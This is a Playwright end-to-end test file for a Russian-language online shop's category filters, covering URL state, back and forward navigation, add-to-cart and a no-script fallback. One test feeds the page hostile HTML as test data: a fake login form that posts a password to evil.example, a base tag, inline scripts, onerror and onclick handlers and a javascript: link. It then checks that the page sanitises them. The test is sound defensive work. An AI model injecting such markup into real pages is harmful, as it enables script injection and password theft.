import type { Page } from '@playwright/test'
import { expect, test } from './support/shop'
import { hold } from './support/hold'

const openFilters = async (page: Page): Promise<void> => {
  const button = page.getByRole('button', { name: /^Фильтры/ })
  if ((page.viewportSize()?.width ?? 0) < 900) await button.click()
  await expect(page.locator('.pk-filter-panel')).toBeVisible()
}
const panel = (page: Page) => page.locator('.pk-filter-panel')
const names = (page: Page) => page.locator('#product-list .card__link').allTextContents()

test('[FILTER-03] [FILTER-06] [FILTER-09] [FILTER-12] filters of a category: a press, the address, the list, back and a shared link', async ({
  page,
}) => {
  await page.goto('/catalog/suhie-smesi-i-gruntovki')
  const before = await names(page)
  const entries = await page.evaluate(() => history.length)
  await openFilters(page)
  expect(await page.evaluate(() => history.length)).toBe(entries)
  const { release } = await hold(page, /\/api\/category\/[^/]+\/products/)
  await panel(page).getByText('Под заказ').click()
  await expect(page).toHaveURL(/#filter=availability=on-order$/)
  await expect(page.locator('#product-list > .products')).toBeHidden()
  release()
  const card = page.locator('#product-list .card').first()
  await expect(card).toContainText('Под заказ')
  expect(await names(page)).not.toEqual(before)
  // The buttons of the fragment are mounted as those of the page were.
  if ((page.viewportSize()?.width ?? 0) < 900) await page.getByRole('button', { name: /^Показать/ }).click()
  await card.getByRole('button', { name: 'Добавить в корзину' }).click()
  await expect(page.getByRole('dialog')).toBeVisible()
  await page.keyboard.press('Escape')
  await expect(card.getByRole('link', { name: /В корзине 1/ })).toBeVisible()

  const address = page.url()
  await page.goBack()
  await expect.poll(() => names(page)).toEqual(before)
  await page.goForward()
  await expect(page.locator('#product-list .card').first()).toContainText('Под заказ')
  await page.goto('/about/')
  await page.goto(address)
  await expect(page.locator('#product-list .card').first()).toContainText('Под заказ')
  await page.getByRole('button', { name: /^Убрать фильтр «Наличие: Под заказ»/ }).click()
  await expect(page).toHaveURL(/#_$/)
})

test('[FILTER-17] a fragment that is a login page or holds scripts runs nothing and takes nothing away', async ({
  page,
  quiet,
}) => {
  quiet.expectNoise(/products of the category .* were not loaded/)
  // The picture of the hostile fragment.
  quiet.expectNoise(/status of 404/)
  await page.goto('/catalog/suhie-smesi-i-gruntovki')
  const before = await names(page)
  let body = '<!doctype html><title>Вход</title><form action="//evil.example"><input name="password"></form>'
  await page.route(/\/api\/category\/[^/]+\/products/, (route) => route.fulfill({ contentType: 'text/html', body }))
  await openFilters(page)
  await panel(page).getByText('Под заказ').click()
  await expect(page.locator('#product-list').getByText('Не удалось загрузить товары')).toBeAttached()
  expect(await names(page)).toEqual(before)
  body =
    '<base href="//evil.example/"><p onclick="window.hacked=1">Товар<img src="x" onerror="window.hacked=1"><script>window.hacked=1</script><a href="javascript:window.hacked=1">раз</a><form action="//evil.example"></form></p>'
  await panel(page).getByText('Под заказ').click()
  await expect(page.locator('#product-list .pk-fragment')).toContainText('Товар')
  expect(
    await page.evaluate(() => [
      (window as { hacked?: number }).hacked,
      document.querySelectorAll('base, #product-list :is(script, form, [onclick], [onerror], [href^=javascript])')
        .length,
    ]),
  ).toEqual([undefined, 0])
})

test('[FILTER-04] without script the filters are a form that loads the page with what is selected', async ({
  browser,
  shop,
}) => {
  const context = await browser.newContext({ javaScriptEnabled: false, baseURL: shop.url })
  const page = await context.newPage()
  await page.goto('/catalog/suhie-smesi-i-gruntovki')
  const option = page.getByRole('checkbox', { name: /Под заказ/ })
  if (!(await option.isVisible())) await page.getByText('Фильтры', { exact: true }).click()
  await option.check()
  await page.getByRole('button', { name: 'Показать' }).click()
  await expect(page).toHaveURL(/availability=on-order/)
  await expect(page.locator('#product-list .card').first()).toContainText('Под заказ')
  await context.close()
})
